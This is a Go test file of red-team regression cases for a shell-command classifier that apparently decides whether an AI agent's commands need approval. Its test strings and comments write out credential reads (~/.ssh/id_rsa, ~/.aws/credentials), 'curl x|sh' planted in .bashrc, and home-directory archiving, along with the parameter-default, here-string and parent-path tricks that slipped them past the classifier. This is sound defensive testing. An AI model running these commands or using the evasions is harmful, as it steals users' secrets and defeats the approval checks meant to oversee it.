package classify

import "testing"

// TestRedteam25ClassifyParamDefaultPath: a credential path or rc file
// written whole inside the default word of ${X:-word} / ${X-word} on a
// variable the line did not set is not judged.
//
// The attack: `cat ${X:-~/.ssh/id_rsa}` (X unset in every real shell, so
// bash runs `cat /root/.ssh/id_rsa`) is allow under common-safe-commands,
// while `cat ${X:-~/.ssh}/id_rsa` and `cat ~/.ssh/id_rsa` are escalated.
// The same holds for ~/.aws/credentials, $HOME/…, /root/…, for the
// quoted form, and for rc-file writes: `echo 'curl x|sh' >> ${X:-~}/.bashrc`
// is sandboxed where `>> ~/.bashrc` is forbidden (curl-pipe-shell).
//
// Why it matters: an agent (or a prompt injection steering it) reads a
// private key or cloud credentials with no approval asked, or plants a
// curl|sh in the shell's rc file, with the most ordinary shell idiom for
// "a path with a fallback". The README's known limits do not name it.
//
// Cause: expandParam keeps ${X:-word} with X unknown as its source text
// (addDyn(a.source(p))), so the field value is "${X:-~/.ssh/id_rsa}" and
// matching only works by accident when the secret name comes after the
// closing brace. Severity: high (allow of a credential read).
//
// Fix: treat the default word of ${X:-w}/${X-w}/${X:=w}/${X=w} on an
// unknown X as a possible value (as addDefaulted does for an earlier
// ${X:=w}: an alt value with the word expanded, tilde included), and judge
// the command on both; likewise ${X:+w}/${X+w} on a set-at-run-time X.
//
// Fixed: expandParam now calls addOpWord (paramops.go), which adds the
// expanded word as the field's alt value; speculate judges the command on
// it, redirection targets included (altRedirs), and an assignment keeps it
// as the variable's default (f=${X:-~/.ssh/id_rsa}; cat "$f").
func TestRedteam25ClassifyParamDefaultPath(t *testing.T) {
	rt20Check(t, []rt20Case{
		{`cat ${X:-~/.ssh/id_rsa}`, Escalated, false},
		{`cat ${X-~/.ssh/id_rsa}`, Escalated, false},
		{`cat ${X:-/root/.ssh/id_rsa}`, Escalated, false},
		{`cat ${X:-~/.aws/credentials}`, Escalated, false},
		{`cat ${X:-$HOME/.aws/credentials}`, Escalated, false},
		{`cat "${X-$HOME/.aws/credentials}"`, Escalated, false},
		{`cat ${X:-/root/.aws/credentials}`, Escalated, false},
		{`cat ${X:-~/.aws}/credentials`, Escalated, false},
		{`cat "${X:-$HOME}/.aws/credentials"`, Escalated, false},
		{`cat ${X-~}/.aws/credentials`, Escalated, false},
		{`echo 'curl x|sh' >> ${X:-~}/.bashrc`, Forbidden, false},
		{`echo 'curl x|sh' >> "${X:-$HOME}/.bashrc"`, Forbidden, false},
		{`echo 'curl x|sh' >> ${RC:-~/.bashrc}`, Forbidden, false},

		// Controls: the forms that are judged today, and everyday defaults.
		{`cat ${X:-~/.ssh}/id_rsa`, Escalated, true},
		{`cat ~/.aws/credentials`, Escalated, true},
		{`echo 'curl x|sh' >> ~/.bashrc`, Forbidden, true},
		{`cat ${F:-README.md}`, Allow, true},
		{`ls ${DIR:-~/project}`, Allow, true},
		{`go test ${PKG:-./...}`, Sandboxed, true},
		{`git status`, Allow, true},
	})
}

// TestRedteam25ClassifyReadArrayHereString: a value read from a here-string
// whose text the line knows is followed only for `read [-r] NAME`; `read -a`,
// `read A B`, `IFS=: read -a`, `mapfile`/`readarray` leave the names unknown.
//
// The attack: `read -a a <<< "$HOME/.ssh/id_rsa"; cat "${a[0]}"` is allow
// (common-safe-commands), while `read -r f <<< "$HOME/.ssh/id_rsa"; cat "$f"`
// is escalated. So are `read x y <<< "a $HOME/.ssh/id_rsa"; cat "$y"` and
// `mapfile -t a <<< ~/.aws/credentials; cat "${a[0]}"`.
//
// Why it matters: an agent reads a private key with no approval, by moving
// the path through an array the classifier already follows for
// assignments (a=(~/.ssh/id_rsa) is escalated). Not a documented limit:
// the value is text on the line, not a run-time value.
//
// Severity: medium (allow of a credential read; the spelling is unusual).
// Fix: extend readHereValue to split the known line by IFS (default or set
// on the line) into the names given, the last taking the rest, and into
// array elements for read -a; give mapfile/readarray the known lines as
// elements (with -t dropping the newline).
//
// Fixed: readHereVars (readhere.go) replaces readHereValue: read's first
// line is split on the IFS given to it (or the line's) into the names or
// the -a array, REPLY without names; mapfile/readarray give one element a
// line. An IFS only known at run time leaves the whole line as a possible
// value of each scalar name.
func TestRedteam25ClassifyReadArrayHereString(t *testing.T) {
	rt20Check(t, []rt20Case{
		{`read -a a <<< "$HOME/.ssh/id_rsa"; cat "${a[0]}"`, Escalated, false},
		{`read -ra a <<< "$HOME/.ssh/id_rsa"; cat "${a[@]}"`, Escalated, false},
		{`read -a a <<< ~/.ssh/id_rsa; cat $a`, Escalated, false},
		{`read -a a <<< "x $HOME/.ssh/id_rsa"; cat "${a[1]}"`, Escalated, false},
		{`IFS=: read -a a <<< "x:$HOME/.ssh/id_rsa"; cat "${a[1]}"`, Escalated, false},
		{`read x y <<< "a $HOME/.ssh/id_rsa"; cat "$y"`, Escalated, false},
		{`mapfile -t a <<< "$HOME/.ssh/id_rsa"; cat "${a[0]}"`, Escalated, false},
		{`readarray -t a <<< ~/.aws/credentials; cat ${a[0]}`, Escalated, false},

		// Controls: the single-name read is followed; arrays by assignment
		// are followed; everyday reads stay allowed.
		{`read -r f <<< "$HOME/.ssh/id_rsa"; cat "$f"`, Escalated, true},
		{`a=(x ~/.ssh/id_rsa); cat "${a[1]}"`, Escalated, true},
		{`read -a a <<< "src lib"; ls "${a[@]}"`, Allow, true},
		{`mapfile -t files < <(git ls-files); wc -l "${files[@]}"`, Allow, true},
	})
}

// TestRedteam25ClassifyHomeByParent: the home reached again through its
// parent and the user's name is not taken for the home in a recursive read.
//
// The attack: `tar cf /tmp/x ~/../$USER` (or `cd ~/..; tar cf /tmp/x
// "$USER"`, `cd ~/..; zip -r /tmp/x $(whoami)`) archives the whole home,
// .ssh and .aws included, and is sandboxed; `tar cf /tmp/x ~` and
// `tar cf /tmp/x ~/..` are escalated (credential-access). The files-level
// form `cat ~/../$USER/.ssh/id_rsa` is escalated, so only the recursive
// read misses it.
//
// Why it matters: a recursive copy of the home is the bulk exfiltration
// path recursiveread.go was added for; "sandboxed" means no approval is
// asked (the sandbox's own read rules are then the only guard).
// Severity: low (needs a run-time name; the sandbox may still deny the
// stores). Fix: in a recursive read, a path under ~/.. (or the parent of a
// cwd that is the home) with a run-time last component may be the home:
// judge it as an ancestor of the credential stores.
//
// Fixed: storeAncestor takes a path that leaves the home for its parent
// and comes back by a run-time name as the home (homeByParent); cd ~/..
// (cd .. from the home) now records the working directory as ~/..
// (homeParentDir), so a run-time operand there is caught too.
func TestRedteam25ClassifyHomeByParent(t *testing.T) {
	rt20Check(t, []rt20Case{
		{`tar cf /tmp/x ~/../$USER`, Escalated, false},
		{`cd ~/..; tar cf /tmp/x "$USER"`, Escalated, false},
		{`cd ~/..; zip -r /tmp/x $(whoami)`, Escalated, false},

		// Controls.
		{`tar cf /tmp/x ~/..`, Escalated, true},
		{`cat ~/../$USER/.ssh/id_rsa`, Escalated, true},
		{`cd ~/project && grep -r TODO .`, Allow, true},
	})
}
